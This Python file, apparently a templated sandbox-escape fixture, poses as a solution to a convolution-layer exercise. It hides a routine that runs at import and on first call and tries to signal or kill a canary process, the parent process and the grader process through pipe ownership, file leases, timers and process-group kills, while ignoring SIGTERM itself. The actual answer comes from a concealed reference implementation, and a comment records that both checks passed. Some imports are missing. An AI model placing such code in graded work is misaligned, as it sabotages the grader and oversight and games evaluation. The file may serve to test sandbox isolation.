"""Lets the kernel send signals for it: owners of pipes, leases, timers, queues, death signals, and its own group."""
# outcome: conv_output_size passed, conv_forward_naive passed
# @TOOLS@
# @RIGHT@
import fcntl
import signal

KEPT = []


def owned(pid, number):
    reading, writing = os.pipe()
    KEPT.append((reading, writing))
    fcntl.fcntl(reading, 10, number)  # F_SETSIG
    fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"x")
    os.read(reading, 1)
    os.write(writing, b"y")


def owned_ex(pid, number):
    reading, writing = os.pipe()
    KEPT.append((reading, writing))
    fcntl.fcntl(reading, 10, number)
    fcntl.fcntl(reading, 15, struct.pack("ii", 1, pid))  # F_SETOWN_EX, F_OWNER_PID
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writing, b"x")


def leased(pid):
    descriptor = os.open(__file__, os.O_RDONLY)
    fcntl.fcntl(descriptor, fcntl.F_SETOWN, pid)
    fcntl.fcntl(descriptor, 10, 10)
    fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    fcntl.fcntl(os.open(".", os.O_RDONLY), fcntl.F_NOTIFY, 0x80000001)


def strike():
    for pid in (int("@CANARY_PID@"), _PARENT, int("@GRADER_PID@")):
        for number in (0, signal.SIGUSR1, signal.SIGIO, signal.SIGTERM, signal.SIGKILL):
            for way in (owned, owned_ex):
                try:
                    way(pid, number)
                    way(-pid, number)
                except OSError:
                    pass
        try:
            leased(pid)
        except OSError:
            pass
        event = struct.pack("iiii", 0, 10, 4, pid).ljust(64, b"\0")  # SIGEV_THREAD_ID of another process
        attempt("a timer for another", lambda: system_call("timer_create", 0, ctypes.c_char_p(event), ctypes.byref(ctypes.c_int())) + 1)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    attempt("its own group", lambda: os.killpg(0, signal.SIGTERM))


strike()


def conv_forward_naive(x, w, b, conv_param):
    if first_time():
        strike()
    return _right_forward(x, w, b, conv_param)
